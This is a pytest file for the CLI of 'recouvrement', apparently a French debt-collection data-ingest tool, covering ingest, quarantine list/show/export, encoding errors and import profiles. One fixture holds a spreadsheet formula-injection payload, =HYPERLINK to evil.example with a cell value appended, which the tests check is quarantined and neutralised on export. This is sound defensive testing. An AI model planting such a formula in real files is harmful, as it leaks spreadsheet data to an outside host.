"""`recouvrement ingest` and `recouvrement quarantine list|show|export`, as a user types them."""

import csv
import json
import shutil
from pathlib import Path

from click.testing import CliRunner
from sqlalchemy import func, select

from recouvrement.entrypoints.cli import main as cli
from recouvrement.adapters.db import open_database
from recouvrement.adapters.db.models import ImportBatch

EXPORTS = Path(__file__).parents[1] / "fixtures" / "exports"


def run(*args):
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


def drop(home, name, as_name=None):
    shutil.copy(EXPORTS / name, home / "inbox" / (as_name or Path(name).name))


def test_quarantine_list_show_and_export(home, tmp_path):
    drop(home, "broken/customers_formula.csv", "customers.csv")
    ingested = run("ingest", "--as-of", "2026-11-02")
    assert ingested.exit_code == 0, ingested.output
    assert "customers.csv: 2 rows, 1 loaded, 1 quarantined" in ingested.output
    assert "validation report: " + str(home / "reports" / "validation") in ingested.output

    listed = run("quarantine", "list")
    assert listed.exit_code == 0 and "customers.csv" in listed.output and "411PIEGE" in listed.output
    [row] = json.loads(run("quarantine", "list", "--format", "json").output)
    assert (row["file"], row["line"], row["key"], row["status"]) == ("customers.csv", 3, "411PIEGE", "open")
    assert row["reasons"] == ["name starts like a spreadsheet formula (= + - @)"]
    assert row["raw"]["name"].startswith("=HYPERLINK(")

    shown = run("quarantine", "show", row["id"])
    assert shown.exit_code == 0
    assert "customers.csv line 3 (open)" in shown.output
    assert "  - name starts like a spreadsheet formula" in shown.output
    assert '  name: =HYPERLINK("http://evil.example/?"&A1;"Cliquez")' in shown.output

    out = tmp_path / "quarantine.csv"
    exported = run("quarantine", "export", "--out", out)
    assert exported.exit_code == 0 and "1 row(s) written" in exported.output
    with out.open(encoding="utf-8-sig", newline="") as handle:
        [header, line] = list(csv.reader(handle, delimiter=";"))
    record = dict(zip(header, line))
    assert record["name"].startswith("'=HYPERLINK(")  # a spreadsheet will not run it
    assert (record["file"], record["line"], record["account"]) == ("customers.csv", "3", "411PIEGE")

    as_json = tmp_path / "quarantine.json"
    run("quarantine", "export", "--out", as_json, "--format", "json")
    assert json.loads(as_json.read_text(encoding="utf-8"))[0]["raw"]["account"] == "411PIEGE"


def test_show_an_unknown_row_exits_2(home):
    result = run("quarantine", "show", 999)
    assert result.exit_code == 2 and "no quarantined row 999" in result.output


def test_a_broken_file_exits_2_naming_it_and_changes_nothing(home, database_url):
    drop(home, "csv/customers_sage100.csv")
    drop(home, "broken/invoices_wrong_encoding.csv")
    result = run("ingest", "--as-of", "2026-11-02")
    assert result.exit_code == 2
    assert "invoices_wrong_encoding.csv: line 3: mixes UTF-8 with another encoding" in result.output
    assert "nothing was changed" in result.output
    with open_database(database_url).session() as session:
        assert session.scalar(select(func.count()).select_from(ImportBatch)) == 0


def test_list_the_profiles_and_name_one(home, monkeypatch):
    # its one row is quarantined: not a file to hold back for its share of quarantine here
    monkeypatch.setenv("RECOUVREMENT_HOLD_QUARANTINED_PERCENT", "100")
    listed = run("ingest", "--list-profiles")
    for name in ("sage100", "ebp", "cegid_quadra", "pennylane"):
        assert name in listed.output
    (home / "inbox" / "invoices_pl.csv").write_text(
        "Numéro;Identifiant client;Date d'émission;Date d'échéance;Montant TTC;Reste à payer\n"
        "P-1;411A;01/10/2026;31/10/2026;10,00;10,00\n", encoding="utf-8")
    result = run("ingest", "--as-of", "2026-11-02", "--profile", "pennylane")
    assert result.exit_code == 0, result.output
    assert "invoices_pl.csv (profile pennylane): 1 rows, 0 loaded, 1 quarantined" in result.output
    assert "account is not a known debtor" in result.output


def test_name_the_excel_sheet(home):
    drop(home, "xlsx/invoices_ebp.xlsx")
    result = run("ingest", "--as-of", "2026-11-02", "--sheet", "Clients")
    assert result.exit_code == 2
    assert "invoices_ebp.xlsx: sheet 'Clients': missing required column(s)" in result.output
